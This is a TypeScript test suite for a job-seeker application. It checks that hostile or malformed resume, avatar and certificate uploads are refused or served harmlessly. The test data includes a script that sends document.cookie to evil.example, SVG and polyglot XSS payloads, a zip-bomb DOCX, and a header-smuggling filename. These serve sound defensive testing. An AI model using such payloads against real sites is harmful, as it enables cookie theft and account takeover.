import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import { ERRORS, type ErrorName } from '../../../contract/errors.ts';
import { searchJobs } from '../../../contract/search.ts';
import { deleteResume, uploadResume } from '../../../contract/jobseekers.ts';
import { createLicense } from '../../../contract/profile-calls.ts';
import { uploadAvatar, uploadCertificate } from '../../../contract/profile-files.ts';
import { getSyncableContent } from '../../../contract/resume-sync.ts';
import { WRITTEN } from '../../../tests/api/world.ts';
import { testApp, type TestApp } from '../../../tests/support/app.ts';
import type { Browser } from '../../../tests/support/browser.ts';
import { bombDocx, encryptedPdf, photoPdf, spinningPdf } from '../../../tests/support/hostile-files.ts';
import { docxOf, paragraph, pdfOf } from '../../../tests/support/resume-files.ts';
import { pdf as smallPdf } from '../../../tests/support/market.ts';

/** Broken and hostile files of others, tried where they are; they are no part of this repository. */
const FOLDER = path.join(import.meta.dirname, '../../../../shared/data/badfiles');
const SLOWEST_MS = 10_000;
const PATIENCE = 600_000;
const CLEAR: readonly number[] = [
  ERRORS.fileTypeUnsupported.code,
  ERRORS.fileIncomplete.code,
  ERRORS.fileEmpty.code,
  ERRORS.fileTooLarge.code,
  ERRORS.jsonResumeInvalid.code,
];
const OUTCOMES = ['found', 'lowConfidence', 'needsOcr', 'encrypted', 'parseFailed', 'tooLong'];
/** So many resumes of one person are read a day. */
const READ_A_DAY = 3;

/** What each format begins with, or a PDF within its first kilobyte. */
const BEGINNINGS: Record<string, (content: Buffer) => boolean> = {
  pdf: (content) => content.subarray(0, 1_024).includes('%PDF-'),
  docx: (content) => content.subarray(0, 2).toString() === 'PK',
  doc: (content) => content.subarray(0, 4).toString('hex') === 'd0cf11e0',
};
/** What files are served as: nothing that a browser opens as a page or runs. */
const INERT = /^(application\/(pdf|msword|vnd\.openxmlformats-officedocument\.wordprocessingml\.document)|image\/(png|jpeg|bmp))$/;

const files = existsSync(FOLDER) ? readdirSync(FOLDER, { recursive: true, encoding: 'utf8' }).filter((name) => statSync(path.join(FOLDER, name)).isFile()) : [];
let house: TestApp;
let ana: Browser;

beforeAll(async () => {
  if (files.length === 0) process.stderr.write('SKIPPED: ../shared/data/badfiles is not here, so no broken file was tried.\n');
  house = await testApp();
  ana = await house.seeker();
});

const upload = (who: Browser, content: Uint8Array, filename: string) =>
  who.call(uploadResume, { query: { place: 'profile' }, file: new Blob([content as Uint8Array<ArrayBuffer>]), filename });

async function timed<T>(work: Promise<T>): Promise<{ answer: T; took: number }> {
  const began = performance.now();
  return { answer: await work, took: performance.now() - began };
}

/** A file as its owner gets it back. */
async function served(who: Browser, url: string) {
  const cookie = [...who.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  const { statusCode, headers, rawPayload } = await house.app.inject({ url, headers: { cookie, device_uuid: who.device } });
  return { statusCode, headers, rawPayload };
}

/** Why a file that is given back could do harm; nothing where it can not. */
function harmIn({ statusCode, headers }: Awaited<ReturnType<typeof served>>): string | null {
  if (statusCode !== 200) return `is answered with ${statusCode}`;
  if (!INERT.test(String(headers['content-type']))) return `is served as ${headers['content-type']}`;
  if (!/^attachment; filename="[\w.]+"; filename\*=UTF-8''[^;\s]+$/.test(String(headers['content-disposition']))) return 'is no attachment';
  if (headers['x-content-type-options'] !== 'nosniff') return 'may be sniffed';
  return headers['content-security-policy'] === "default-src 'none'; sandbox" ? null : 'may run';
}

test.skipIf(files.length === 0)(
  'each broken or hostile file is refused clearly, or stored as what it really is, read to a clear end and served harmlessly, without delay',
  { timeout: PATIENCE },
  async () => {
    const outcomes: Record<string, number> = {};
    const faults: string[] = [];
    let reader = ana;
    let read = 0;
    for (const name of files) {
      const content = readFileSync(path.join(FOLDER, name));
      const { answer, took } = await timed(upload(reader, content, path.basename(name)));
      const isStored = answer.status < 400;
      const isRight = isStored ? BEGINNINGS[answer.data.format]?.(content) : CLEAR.includes(answer.refusal.code);
      const told = isStored ? answer.data.format : String(answer.refusal.code);
      if (!isRight || took > SLOWEST_MS) faults.push(`${name}: ${told} after ${Math.round(took)} ms`);
      let ending = told;
      if (isStored) {
        const params = { id: answer.data.id };
        const reading = await timed(reader.call(getSyncableContent, { params }));
        ending = reading.answer.status < 400 ? `${told}, ${reading.answer.data.outcome}` : `${told}, ${reading.answer.refusal.code}`;
        if (reading.answer.status >= 400 || !OUTCOMES.includes(reading.answer.data.outcome) || reading.took > SLOWEST_MS)
          faults.push(`${name}: ${ending} after ${Math.round(reading.took)} ms`);
        const harm = harmIn(await served(reader, `/api/jobseekers/resumes/${params.id}/file`));
        if (harm !== null) faults.push(`${name} ${harm}`);
        await reader.call(deleteResume, { params });
        read += 1;
        if (read % READ_A_DAY === 0) reader = await house.seeker();
      }
      outcomes[ending] = (outcomes[ending] ?? 0) + 1;
    }
    expect(faults).toEqual([]);
    process.stdout.write(`${files.length} files: ${JSON.stringify(outcomes)}\n`);
  },
);

const MB = 1024 * 1024;
/** So many ask for something else meanwhile. */
const OTHERS = 10;
const unreadable = { spinning: spinningPdf, encrypted: encryptedPdf, photo: photoPdf };

test.each([
  ['a PDF that makes readers spin', 'spinning', 'tooLong'],
  ['an encrypted PDF', 'encrypted', 'encrypted'],
  ['a photo as PDF', 'photo', 'needsOcr'],
] as const)('%s is stored, and its reading ends within ten seconds with the reason while others are served', { timeout: 30_000 }, async (_, kind, outcome) => {
  const ben = await house.seeker();
  const visitor = await house.guest();
  const { data: resume } = await upload(ben, unreadable[kind](), `${kind}.pdf`);
  const reading = timed(ben.call(getSyncableContent, { params: { id: resume.id } }));
  for (let others = 0; others < OTHERS; others += 1) expect((await visitor.call(searchJobs, { query: {} })).status).toBe(200);
  const { answer, took } = await reading;
  expect(answer.data).toEqual({ outcome });
  expect(took).toBeLessThan(SLOWEST_MS);
});

test('a ZIP of 300 MB inside a Word document is refused before anything reads it', { timeout: 30_000 }, async () => {
  const { answer, took } = await timed(upload(ana, bombDocx(300 * MB), 'cv.docx'));
  expect(answer.refusal).toMatchObject({ code: ERRORS.fileTypeUnsupported.code, message: expect.stringMatching(/PDF/) });
  expect(took).toBeLessThan(SLOWEST_MS);
});

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const text = (content: string) => new TextEncoder().encode(content);
const joined = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const scripts: [string, string, Uint8Array][] = [
  ['an SVG with a script', 'proof.svg', text(svg)],
  ['an SVG that is called a picture', 'proof.png', text(svg)],
  ['a page', 'proof.html', text(`<!doctype html>${SCRIPT}`)],
  ['a page that is called a PDF', 'proof.pdf', text(`<!doctype html>${SCRIPT}`)],
  ['a page that goes on as a PDF', 'proof.pdf', joined(text(`<html>${SCRIPT}`), pdfOf([[40, 40, 'Ana']]))],
  ['a GIF that goes on as a script', 'proof.gif', text(`GIF89a/*${'\u0000'.repeat(20)}*/=1;alert(1)`)],
  ['a program', 'proof.pdf', joined(text('MZ'), pdfOf([[40, 40, 'Ana']]))],
  ['a Word document', 'proof.docx', docxOf(paragraph('Ana'))],
];

test.each(scripts)('%s is no certificate, no picture of oneself and no resume', async (name, filename, content) => {
  const { data: licence } = await ana.call(createLicense, { body: WRITTEN.license });
  const file = new Blob([content as Uint8Array<ArrayBuffer>], { type: 'image/png' });
  const refusals: [{ status: number; refusal: { code: number } }, ErrorName][] = [
    [await ana.call(uploadCertificate, { params: { id: licence.id }, file, filename }), 'certificateUnsupported'],
    [await ana.call(uploadAvatar, { file, filename }), 'imageUnsupported'],
  ];
  if (name !== 'a Word document') refusals.push([await upload(ana, content, filename), 'fileTypeUnsupported']);
  expect(refusals.map(([answer]) => answer.refusal.code)).toEqual(refusals.map(([, refused]) => ERRORS[refused].code));
  expect((await served(ana, `/api/jobseekers/license-certifications/${licence.id}/attachment`)).statusCode).toBe(404);
});

test.each([
  ['a PDF with a script in it', pdfOf([[40, 40, '<script>alert(1)</script>']]), 'evil.html', 'application/pdf'],
  ['a PDF that goes on as a page', joined(pdfOf([[40, 40, 'Ana']]), text(`\n${SCRIPT}\n%%EOF\n`)), 'evil.svg"; filename="x.html', 'application/pdf'],
])('%s is stored and given back as the PDF it is, to be kept and not to be opened', async (_, content, filename, type) => {
  const { data: licence } = await ana.call(createLicense, { body: WRITTEN.license });
  const { data: stored } = await ana.call(uploadCertificate, { params: { id: licence.id }, file: new Blob([content as Uint8Array<ArrayBuffer>]), filename });
  expect(stored.filename).toMatch(/\.pdf$/);
  const certificate = await served(ana, `/api/jobseekers/license-certifications/${licence.id}/attachment`);
  expect([harmIn(certificate), certificate.headers['content-type']]).toEqual([null, type]);
  expect(new Uint8Array(certificate.rawPayload)).toEqual(content);
});

test('what is given back of a resume is the same for whoever named it', async () => {
  const ben = await house.seeker();
  const { data: resume } = await ben.call(uploadResume, { query: { place: 'profile' }, file: smallPdf(), filename: 'cv.pdf.html' });
  expect(harmIn(await served(ben, `/api/jobseekers/resumes/${resume.id}/file`))).toBeNull();
});
